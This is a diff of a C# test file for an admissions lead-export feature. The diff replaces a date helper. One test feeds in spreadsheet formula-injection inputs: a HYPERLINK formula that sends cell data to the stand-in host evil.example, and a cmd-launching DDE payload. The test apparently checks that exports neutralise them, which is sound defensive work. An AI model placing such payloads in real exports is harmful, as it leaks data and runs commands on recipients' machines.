@@ -14,18 +14,16 @@ public class LeadExportTests(LeadApp app) : IClassFixture<LeadApp>
         "Status", "Source (UTM)", "Came in (UTC)", "Latest inquiry (UTC)", "Unsubscribed (UTC)", "Consent version",
     ];
 
-    private DateTimeOffset Day(int daysAgo) => app.Clock.GetUtcNow().AddDays(-daysAgo);
-
     [Fact]
     public async Task The_download_links_on_a_filtered_list_give_exactly_its_leads_in_both_formats()
     {
         await app.CopyLeadsAsync(
         [
-            LeadRecords.Make("Grace", "Hopper", Day(3), status: LeadStatus.Contacted, source: "spring-fair", country: "US"),
-            LeadRecords.Make("José", "Ñúñez", Day(2), status: LeadStatus.Contacted, source: "spring-fair", country: "MX", track: TrackInterest.IS),
-            LeadRecords.Make("小龙", "李", Day(1), status: LeadStatus.Contacted, source: "spring-fair", country: "CN", email: "li@example.cn"),
-            LeadRecords.Make("Alan", "Turing", Day(1), status: LeadStatus.New, source: "spring-fair"),
-            LeadRecords.Make("Ada", "Byron", Day(1), status: LeadStatus.Contacted, source: "autumn-fair"),
+            LeadRecords.Make("Grace", "Hopper", app.DaysAgo(3), status: LeadStatus.Contacted, source: "spring-fair", country: "US"),
+            LeadRecords.Make("José", "Ñúñez", app.DaysAgo(2), status: LeadStatus.Contacted, source: "spring-fair", country: "MX", track: TrackInterest.IS),
+            LeadRecords.Make("小龙", "李", app.DaysAgo(1), status: LeadStatus.Contacted, source: "spring-fair", country: "CN", email: "li@example.cn"),
+            LeadRecords.Make("Alan", "Turing", app.DaysAgo(1), status: LeadStatus.New, source: "spring-fair"),
+            LeadRecords.Make("Ada", "Byron", app.DaysAgo(1), status: LeadStatus.Contacted, source: "autumn-fair"),
         ]);
         using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);
 
@@ -66,7 +64,7 @@ public class LeadExportTests(LeadApp app) : IClassFixture<LeadApp>
         string[] hostile = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1",
             "\tTabbed", "\rReturned"];
         await app.CopyLeadsAsync(hostile.Select((value, i) =>
-            LeadRecords.Make(value, "Hostile" + i, Day(1), email: $"hostile{i}@example.com", source: value, country: "NZ",
+            LeadRecords.Make(value, "Hostile" + i, app.DaysAgo(1), email: $"hostile{i}@example.com", source: value, country: "NZ",
                 phone: "+64 555 0100")));
         using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);
 
@@ -91,7 +89,7 @@ public class LeadExportTests(LeadApp app) : IClassFixture<LeadApp>
     [Fact]
     public async Task Every_export_is_recorded_and_admins_see_who_took_which_leads()
     {
-        await app.CopyLeadsAsync([LeadRecords.Make("Record", "Kept", Day(1), source: "logged-source", country: "CA")]);
+        await app.CopyLeadsAsync([LeadRecords.Make("Record", "Kept", app.DaysAgo(1), source: "logged-source", country: "CA")]);
         using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);
         await admissions.DownloadAsync("/admin/leads/export/xlsx?source=logged-source&country=ca", LeadExporter.ContentType(ExportFormat.Xlsx));
 
